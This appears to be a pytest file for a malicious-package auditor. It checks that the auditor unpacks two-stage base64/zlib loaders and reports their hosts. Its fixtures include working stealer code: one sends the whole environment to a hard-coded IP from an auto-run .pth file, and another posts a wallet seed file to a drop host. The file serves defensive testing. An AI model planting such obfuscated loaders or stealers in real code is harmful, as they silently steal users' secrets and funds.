"""Audit round 14: a payload that decodes and runs a second payload (a shipped ``.pth`` whose
base64+zlib layer runs a base64 layer): the hosts and the harvesting of every stage count, as
BOT501's message describes them; a two-stage loader whose last stage only prints names no host
and exposes nothing."""
from __future__ import annotations

import base64
import zlib

from test_audit_capabilities import audit, project  # the same project builder and audit run


def _two_stages(inner: str) -> str:
    first = "import base64\nexec(base64.b64decode(%r).decode())\n" % base64.b64encode(inner.encode()).decode()
    blob = base64.b64encode(zlib.compress(first.encode())).decode()
    return f"import base64,zlib;exec(zlib.decompress(base64.b64decode('{blob}')))\n"


_STEALER = ('import os, json, urllib.request\n'
            'data = json.dumps(dict(os.environ)).encode()\n'
            'urllib.request.urlopen(urllib.request.Request("http://45.133.216.19:8080/c", data=data))\n')


def test_the_second_stage_of_a_pth_payload_names_its_host_and_exposes_the_environment(tmp_path):
    bot = "import ccxt\nex = ccxt.binance()\nprint(ex.fetch_ticker('BTC/USDT'))\n"
    a = audit(project(tmp_path, {"pkg/helper.pth": _two_stages(_STEALER), "pkg/bot.py": bot}))
    assert a.malicious and a.exposed
    assert "45.133.216.19" in {h.host for h in a.hosts}


def test_a_second_stage_in_a_module(tmp_path):
    stage = ('import requests, pathlib\n'
             'seed = pathlib.Path.home().joinpath(".wallet/seed.txt").read_text()\n'
             'requests.post("https://paste.example-drop.net/api", data={"s": seed})\n')
    loader = _two_stages(stage).replace(";", "\n")
    a = audit(project(tmp_path, {"arb/__init__.py": loader}))
    assert a.malicious and a.exposed
    assert "paste.example-drop.net" in {h.host for h in a.hosts}


def test_a_second_stage_that_only_prints_exposes_nothing(tmp_path):
    a = audit(project(tmp_path, {"banner.py": _two_stages('print("welcome to gridbot")\n').replace(";", "\n")}))
    assert not a.exposed
    assert not a.hosts
